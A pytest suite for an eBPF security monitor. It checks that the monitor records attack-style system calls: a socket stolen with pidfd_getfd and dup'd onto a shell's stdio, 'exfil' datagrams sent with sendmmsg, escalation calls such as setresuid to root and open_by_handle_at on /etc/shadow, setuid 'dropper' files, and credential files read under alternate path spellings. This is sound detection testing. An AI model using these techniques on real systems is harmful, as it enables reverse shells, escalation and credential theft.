"""Syscall alternatives (the wave 8 audit, docs/events.md): the other ways to reach what a
watched system call does. Each workload is a real program making the real system call in a
scoped cgroup; each test asserts the record and its fields."""

from __future__ import annotations

import os
import platform
import textwrap

import pytest

from coi_sentinel.events import model

pytestmark = pytest.mark.bpf

#: system call numbers the workloads call by number (no libc or os wrapper)
NRS = {
    "x86_64": {"pidfd_getfd": 438, "bpf": 321, "name_to_handle_at": 303,
               "open_by_handle_at": 304, "fsopen": 430, "open_tree": 428, "pivot_root": 155,
               "userfaultfd": 323, "sendmmsg": 307, "capget": 125, "capset": 126},
    "aarch64": {"pidfd_getfd": 438, "bpf": 280, "name_to_handle_at": 264,
                "open_by_handle_at": 265, "fsopen": 430, "open_tree": 428, "pivot_root": 41,
                "userfaultfd": 282, "sendmmsg": 269, "capget": 90, "capset": 91},
}


@pytest.fixture
def nr():
    nrs = NRS.get(platform.machine())
    if nrs is None:
        pytest.skip(f"no system call numbers for {platform.machine()}")
    return nrs


def workload(nr: dict, body: str) -> str:
    return textwrap.dedent("""
        import ctypes, os, socket, struct, sys, time
        libc = ctypes.CDLL(None, use_errno=True)
        sc = libc.syscall
        sc.restype = ctypes.c_long
        NR = %r
    """) % nr + textwrap.dedent(body)


# A process with a connected socket of its own (the victim) and a thief that copies it with
# pidfd_getfd and builds a shell's stdio from the copy; the victim never dups it.
STEAL = """
    r, w = os.pipe()
    victim = os.fork()
    if victim == 0:
        s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
        s.connect(('127.0.0.12', 4444))
        os.write(w, b'%d' % s.fileno())
        time.sleep(30)
        os._exit(0)
    vfd = int(os.read(r, 16))
    pidfd = os.pidfd_open(victim)
    if os.fork() == 0:
        if sys.argv[1] == 'onto-stdin':
            os.close(0)                     # the copy lands on fd 0 itself: no dup at all
            fd = sc(NR['pidfd_getfd'], pidfd, vfd, 0)
            os.dup2(fd, 1)
        else:
            fd = sc(NR['pidfd_getfd'], pidfd, vfd, 0)
            os.dup2(fd, 0)
            os.dup2(fd, 1)
        print(fd, file=sys.stderr)
        os.execv('/bin/true', ['true'])
    os.wait()
    os.kill(victim, 9)
    os.waitpid(victim, 0)
    print(victim, vfd)
"""


@pytest.mark.parametrize("how", ["dup2", "onto-stdin"])
def test_a_socket_stolen_with_pidfd_getfd_is_a_socket_on_stdio(watched, py, nr, how):
    run = watched.run([py, "-c", workload(nr, STEAL), how])
    assert run.returncode == 0, run.stderr
    victim, vfd = map(int, run.stdout.split())
    stolen = int(run.stderr.decode().split()[-1])
    steals = run.of(model.PrivEvent, op="pidfd_getfd")
    assert [(e.arg0, e.arg1, e.errno) for e in steals] == [(victim, vfd, 0)]
    thief = steals[0].pid
    dups = {e.newfd: e for e in run.of(model.DupEvent, pid=thief)}
    assert set(dups) == {0, 1}
    for d in dups.values():
        assert d.is_socket and (d.daddr, d.dport) == ("127.0.0.12", 4444), d
    if how == "onto-stdin":
        assert stolen == 0 and dups[0].oldfd == vfd    # the victim's fd number
    execs = run.of(model.ExecEvent, pid=thief, filename="/bin/true")
    assert len(execs) == 1 and execs[0].stdio_socket


def test_a_stolen_socket_put_on_stdio_meets_the_shell_socket_kill_policy(watched, py, nr):
    """The thief (an interpreter) dies at the dup of the stolen socket onto its stdin, as at a
    dup of a socket it connected itself: the shell it would exec never runs."""
    body = STEAL.replace("os.execv('/bin/true', ['true'])", "os.execv('/bin/sh', ['sh', '-c', 'exit 0'])")
    run = watched.run([py, "-c", workload(nr, body), "dup2"], kill_policy={"shell_socket": True})
    assert run.returncode == 0, run.stderr
    thief = run.of(model.PrivEvent, op="pidfd_getfd")[0].pid
    dups = run.of(model.DupEvent, pid=thief)
    assert [(d.newfd, d.is_socket, d.killed) for d in dups] == [(0, True, True)]
    assert not run.of(model.ExecEvent, filename="/bin/sh")


def test_sendmmsg_destinations_are_reported_as_datagram_connects(watched, py, nr):
    body = """
        s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
        class iovec(ctypes.Structure):
            _fields_ = [('base', ctypes.c_void_p), ('len', ctypes.c_size_t)]
        class msghdr(ctypes.Structure):
            _fields_ = [('name', ctypes.c_void_p), ('namelen', ctypes.c_uint32),
                        ('iov', ctypes.c_void_p), ('iovlen', ctypes.c_size_t),
                        ('control', ctypes.c_void_p), ('controllen', ctypes.c_size_t),
                        ('flags', ctypes.c_int)]
        class mmsghdr(ctypes.Structure):
            _fields_ = [('hdr', msghdr), ('len', ctypes.c_uint32)]
        assert ctypes.sizeof(mmsghdr) == 64
        data = ctypes.create_string_buffer(b'exfil')
        iov = iovec(ctypes.addressof(data), 5)
        dests = [('127.0.0.11', 5355), ('127.0.0.11', 5355), ('127.0.0.21', 5356)]
        names = [ctypes.create_string_buffer(struct.pack('<HH4s8x', socket.AF_INET,
                 socket.htons(p), socket.inet_aton(a))) for a, p in dests]
        msgs = (mmsghdr * 3)()
        for m, n in zip(msgs, names):
            m.hdr = msghdr(ctypes.addressof(n), 16, ctypes.addressof(iov), 1, None, 0, 0)
        sent = sc(NR['sendmmsg'], s.fileno(), msgs, 3, 0)
        assert sent == 3, ctypes.get_errno()
    """
    run = watched.run([py, "-c", workload(nr, body)])
    assert run.returncode == 0, run.stderr
    conns = [(e.daddr, e.dport, e.sendto, e.fd) for e in run.of(model.ConnectEvent, pid=run.pid)]
    assert conns == [("127.0.0.11", 5355, True, 3), ("127.0.0.21", 5356, True, 3)]
    repeats = run.of(model.ConnectRepeatEvent, pid=run.pid)
    assert [(e.daddr, e.count) for e in repeats] == [("127.0.0.11", 1)]


def test_escape_and_escalation_alternatives_are_priv_records(watched, py, nr, tmp_path):
    body = """
        import errno
        out = {}
        def call(name, *a):
            r = sc(NR[name], *a)
            out[name] = -ctypes.get_errno() if r < 0 else 0
        attr = ctypes.create_string_buffer(128)
        struct.pack_into('IIII', attr, 0, 2, 4, 8, 1)                 # BPF_MAP_TYPE_ARRAY
        call('bpf', 0, attr, 128)                                     # BPF_MAP_CREATE
        handle = ctypes.create_string_buffer(8 + 128)
        struct.pack_into('I', handle, 0, 128)
        mnt = ctypes.c_int()
        call('name_to_handle_at', -100, b'/etc/shadow', handle, ctypes.byref(mnt), 0)
        root = os.open('/', os.O_RDONLY | os.O_DIRECTORY)
        call('open_by_handle_at', root, handle, os.O_RDONLY)
        out['root'] = root
        assert libc.unshare(0x00020000) == 0                          # CLONE_NEWNS: mounts stay here
        call('fsopen', b'tmpfs', 0)
        call('open_tree', -100, DIR.encode(), 1)                      # OPEN_TREE_CLONE
        call('pivot_root', DIR.encode(), DIR.encode())                # refused: not a mount
        os.chroot('/')
        os.setresuid(-1, 0, -1)
        os.setreuid(-1, 0)
        call('userfaultfd', os.O_CLOEXEC)
        os.setgid(0)
        os.setresgid(-1, 0, -1)
        os.setregid(-1, 0)
        hdr = struct.pack('<Ii', 0x20080522, 0)                       # _LINUX_CAPABILITY_VERSION_3
        caps = ctypes.create_string_buffer(24)
        assert sc(NR['capget'], hdr, caps) == 0
        call('capset', hdr, caps)                                     # the sets it has: allowed
        e0, p0, _, e1, p1, _ = struct.unpack('<6I', caps.raw)
        out['caps'] = (e1 << 32 | e0, p1 << 32 | p0)
        print(out)
    """
    code = workload(nr, f"DIR = {str(tmp_path)!r}\n" + textwrap.dedent(body))
    run = watched.run([py, "-c", code])
    assert run.returncode == 0, run.stderr
    out = eval(run.stdout)  # noqa: S307 (the workload's own dict)
    root = out["root"]
    got = {e.op: e for e in run.of(model.PrivEvent, pid=run.pid)}
    want = {
        # op: (arg0, arg1, detail)
        "bpf": (0, 128, ""),
        "name_to_handle_at": (2**64 - 100, 0, "/etc/shadow"),
        "open_by_handle_at": (root, os.O_RDONLY, ""),
        "fsopen": (0, 0, "tmpfs"),
        "open_tree": (1, 2**64 - 100, str(tmp_path)),
        "pivot_root": (0, 0, str(tmp_path)),
        "chroot": (0, 0, "/"),
        "setresuid": (2**32 - 1, 0, ""),
        "setreuid": (2**32 - 1, 0, ""),
        "userfaultfd": (os.O_CLOEXEC, 0, ""),
        "setgid": (0, 0, ""),
        "setresgid": (2**32 - 1, 0, ""),
        "setregid": (2**32 - 1, 0, ""),
        "capset": (*out["caps"], ""),
    }
    assert set(want) <= set(got), sorted(got)
    for op, (arg0, arg1, detail) in want.items():
        e = got[op]
        assert (e.arg0, e.arg1, e.detail) == (arg0, arg1, detail), e
        assert e.pid == run.pid
    assert got["pivot_root"].errno != 0
    for op in ("bpf", "name_to_handle_at", "open_by_handle_at", "fsopen", "open_tree", "chroot",
               "setresuid", "setreuid", "userfaultfd", "setgid", "setresgid", "setregid", "capset"):
        assert got[op].errno == 0, got[op]


def test_a_program_run_through_a_directory_fd_or_a_relative_name_has_its_path(watched, py, nr,
                                                                              tmp_path):
    """execveat(dirfd, "payload") is /dev/fd/N/payload to the kernel and ./payload stays as
    written: a rule on the program's path (proc.exe) sees neither without the join."""
    payload = tmp_path / "payload"
    payload.write_bytes(open("/bin/true", "rb").read())
    payload.chmod(0o755)
    body = """
        d = os.open(DIR, os.O_RDONLY | os.O_DIRECTORY)
        if os.fork() == 0:
            argv = (ctypes.c_char_p * 3)(b'payload', b'via-dirfd', None)
            envp = (ctypes.c_char_p * 1)(None)
            sc(322 if os.uname().machine == 'x86_64' else 281, d, b'payload', argv, envp, 0)
            os._exit(9)
        os.wait()
        if os.fork() == 0:
            os.chdir(DIR)
            os.execv('./payload', ['payload', 'relative'])
        os.wait()
    """
    code = workload(nr, f"DIR = {str(tmp_path)!r}\n" + textwrap.dedent(body))
    run = watched.run([py, "-c", code])
    assert run.returncode == 0, run.stderr
    execs = {e.argv[1]: e for e in run.of(model.ExecEvent) if e.argv[:1] == ("payload",)}
    assert set(execs) == {"via-dirfd", "relative"}
    for e in execs.values():
        assert e.filename == str(payload) and e.errno == 0, e


def test_setuid_set_through_an_fd_names_the_file(watched, py, nr, tmp_path):
    """fchmod of a file written here and fchmodat2(AT_EMPTY_PATH) on an O_PATH fd: the chmod
    record has the file's path, not an empty one."""
    body = """
        fd = os.open(DIR + '/dropper', os.O_WRONLY | os.O_CREAT, 0o755)
        os.write(fd, b'#!/bin/sh\\n')
        os.fchmod(fd, 0o4755)
        open(DIR + '/other', 'w').close()
        o = os.open(DIR + '/other', os.O_PATH)
        assert sc(452, o, b'', 0o2755, 0x1000) == 0, ctypes.get_errno()     # fchmodat2
    """
    code = workload(nr, f"DIR = {str(tmp_path)!r}\n" + textwrap.dedent(body))
    run = watched.run([py, "-c", code])
    assert run.returncode == 0, run.stderr
    got = sorted((e.path, e.mode, e.errno) for e in run.of(model.ChmodEvent, pid=run.pid))
    assert got == [(str(tmp_path / "dropper"), 0o4755, 0), (str(tmp_path / "other"), 0o2755, 0)]


SPELLINGS = ["{d}//secret", "{d}/./secret", "{d}/sub/../secret", "/../{d}/secret",
             "/proc/self/root{d}/secret", "{d}/sub/./..//secret"]


def test_a_sensitive_file_read_under_another_spelling_is_seen(watched, py, tmp_path):
    """The kernel matches the sensitive prefixes and suffixes on the path: every other spelling
    of it (double slashes, ".", "..", the process's root under /proc) is folded first."""
    (tmp_path / "sub").mkdir()
    (tmp_path / "secret").write_text("k")
    (tmp_path / ".aws").mkdir()
    (tmp_path / ".aws" / "credentials").write_text("[default]")
    body = """
        import os, sys
        for p in sys.argv[1:]:
            os.close(os.open(p, os.O_RDONLY))
    """
    spellings = [s.format(d=tmp_path) for s in SPELLINGS]
    watched.probes.set_sensitive([str(tmp_path) + "/secret"], [".aws/credentials"])
    try:
        runs = [watched.run([py, "-c", textwrap.dedent(body), p])
                for p in spellings + [str(tmp_path) + "/.aws//credentials", str(tmp_path) + "/sub/plain"]]
    finally:
        watched.probes.set_sensitive([], [])
    for p, run in zip(spellings, runs):
        opens = run.of(model.FileOpenEvent, kind="sensitive")
        assert [o.path for o in opens] == [str(tmp_path / "secret")], (p, run.stderr)
    aws = runs[-2].of(model.FileOpenEvent, kind="sensitive")
    assert [o.path for o in aws] == [str(tmp_path / ".aws" / "credentials")]
    assert runs[-1].returncode != 0 and not runs[-1].of(model.FileOpenEvent)   # no such file
